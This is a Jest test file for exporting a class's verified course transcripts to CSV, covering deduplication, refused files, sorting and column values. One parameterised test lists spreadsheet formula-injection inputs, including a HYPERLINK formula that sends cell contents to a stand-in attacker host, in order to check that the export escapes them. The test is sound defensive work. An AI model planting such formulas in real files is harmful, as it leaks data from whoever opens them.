import { expect, it } from '@jest/globals';
import papaparse from 'papaparse';
import { fullTranscript, ISSUED } from '../../../testing/transcripts.ts';
import { REFUSALS } from './checked-transcript.ts';
import { toCsv } from './class-csv.ts';
import { type ClassFile, classOf, sortLearners } from './class-rows.ts';

type Changes = Parameters<typeof fullTranscript>[0];

const genuine = (changes: Changes, name = 'file.json'): ClassFile => ({
  name,
  checked: { isGenuine: true, transcript: fullTranscript(changes), kid: 'k' },
});
const refused = (name: string): ClassFile => ({
  name,
  checked: { isGenuine: false, refusal: 'altered' },
});

/** A level in which less was done. */
function partly(level: string, verified: number, score: number | null) {
  return fullTranscript().levels.map((each) =>
    each.level === level
      ? {
          ...each,
          verified: each.verified.slice(0, verified),
          quiz: each.quiz && score !== null ? { ...each.quiz, score } : null,
        }
      : each,
  );
}

const namesOf = (learners: readonly { transcript: { name: string } }[]) =>
  learners.map(({ transcript }) => transcript.name);

it('of several transcripts of one learner counts the newest, in whatever order they come', () => {
  const older = genuine({ sub: 'ada', iat: ISSUED, name: 'Ada' });
  const newer = genuine({ sub: 'ada', iat: ISSUED + 60, name: 'Ada B' });
  for (const files of [
    [older, newer],
    [newer, older, newer],
  ]) {
    const { learners, replaced } = classOf(files);
    expect(namesOf(learners)).toEqual(['Ada B']);
    expect(replaced).toBe(files.length - 1);
  }
});

it('keeps two learners of one name apart', () => {
  const files = [genuine({ sub: 'one', name: 'Kim' }), genuine({ sub: 'two', name: 'Kim' })];
  expect(classOf(files)).toMatchObject({ learners: [{}, {}], replaced: 0 });
});

it('lists a refused or unreadable file by its name and says why', () => {
  const { learners, refused: list } = classOf([refused('ines.json'), { name: 'dir' }]);
  expect(learners).toEqual([]);
  expect(list).toEqual([
    { name: 'ines.json', why: REFUSALS.altered },
    { name: 'dir', why: 'The file could not be read.' },
  ]);
});

it('counts only what the server verified', () => {
  const levels = partly('2', 2, 4).map((level) =>
    level.quiz && level.level === '3'
      ? { ...level, quiz: { ...level.quiz, verified: false } }
      : level,
  );
  const [learner] = classOf([genuine({ levels })]).learners;
  expect(learner).toMatchObject({ verified: 43, required: 47 });
  expect(learner?.cells[1]).toMatchObject({ verified: 2, required: 6, quiz: { score: 4 } });
  expect(learner?.cells[2]?.quiz).toBeNull();
});

it('leaves open how a challenge was solved where a transcript from before does not say it', () => {
  const [learner] = read(csvOf(genuine({ challenges: [{ level: '2', on: '2026-11-22' }] })));
  expect(learner).toMatchObject({
    '2 Firewall: challenge solved': 'yes',
    '2 Firewall: challenge on try': '',
    '2 Firewall: solution shown before': '',
  });
});

it('says nothing of proofs where a transcript from before knows none', () => {
  const levels = fullTranscript().levels.map(({ proofs: _, ...level }) => level);
  const [learner] = read(csvOf(genuine({ levels })));
  expect(learner).toMatchObject({ '2 Firewall: proofs found': '', '2 Firewall: verified': '6' });
});

it('sorts by name as people do, and by level, last day and total', () => {
  const { learners } = classOf([
    genuine({ name: 'Zoé', levels: partly('2', 1, 6) }),
    genuine({ name: 'émile', levels: partly('2', 6, null) }),
    genuine({ name: 'Learner 10' }),
    genuine({ name: 'Learner 9' }),
  ]);
  const sorted = (
    ...how: Parameters<typeof sortLearners> extends [unknown, ...infer R] ? R : never
  ) => namesOf(sortLearners(learners, ...how));
  expect(sorted('name', false)).toEqual(['émile', 'Learner 9', 'Learner 10', 'Zoé']);
  expect(sorted('name', true)).toEqual(['Zoé', 'Learner 10', 'Learner 9', 'émile']);
  expect(sorted(1, true)).toEqual(['Learner 9', 'Learner 10', 'émile', 'Zoé']);
  expect(sorted('total', false)[0]).toBe('Zoé');
  expect(sorted('last', false)).toEqual(['émile', 'Learner 9', 'Learner 10', 'Zoé']);
});

const csvOf = (...files: ClassFile[]) => {
  const record = classOf(files);
  return toCsv(record.learners, record);
};
const read = (csv: string) =>
  papaparse.parse<Record<string, string>>(csv.replace('\uFEFF', ''), { header: true }).data;

it('exports one row a learner, with numbers of their own, and the refused files', () => {
  const csv = csvOf(genuine({ name: 'Lindqvist, "Maja"' }), refused('forged.jws'));
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const [maja, forged, ...rest] = read(csv);
  expect(rest).toEqual([]);
  expect(maja).toMatchObject({
    Name: 'Lindqvist, "Maja"',
    Issued: '2026-11-22',
    'Actions verified': '47',
    'Actions required': '47',
    '2 Firewall: verified': '6',
    '2 Firewall: quiz': '5',
    '2 Firewall: quiz of': '6',
    '2 Firewall: proofs found': '2',
    '2 Firewall: proofs asked': '2',
    '2 Firewall: challenge solved': 'yes',
    '2 Firewall: challenge on try': '7',
    '2 Firewall: solution shown before': 'no',
    '3 IDS: solution shown before': 'yes',
    '2 Firewall: last done': '2026-11-22',
  });
  expect(forged).toMatchObject({ Name: 'forged.jws', Remark: `Not counted. ${REFUSALS.altered}` });
});

it.each([
  '=HYPERLINK("http://evil.example?"&A2,"click")',
  '=1+1\nsecond line',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '|calc',
  '%0A=1',
])('no cell of %j is a formula, whether it is a name or a file', (text) => {
  const cells = papaparse.parse<string[]>(csvOf(genuine({ name: text }), refused(text)));
  const names = cells.data.slice(1).map(([name]) => name);
  expect(names).toEqual([`'${text}`, `'${text}`]);
});

it('no name reaches into the next cell, also where cells are parted by semicolons', () => {
  const name = 'Eva;=1+1';
  const csv = csvOf(genuine({ name })).replace('\uFEFF', '');
  const [, learner] = papaparse.parse<string[]>(csv, { delimiter: ';' }).data;
  expect(learner).toHaveLength(1);
  expect(read(csv)[0]?.['Name']).toBe(name);
});

it('leaves ordinary names as they are', () => {
  const names = ['O’Brien', 'Jean-Luc', 'a=b', '李小龍', 'Ωmega', "d'Arc"];
  const rows = read(csvOf(...names.map((name) => genuine({ name }))));
  expect(rows.map(({ Name }) => Name)).toEqual(names);
});
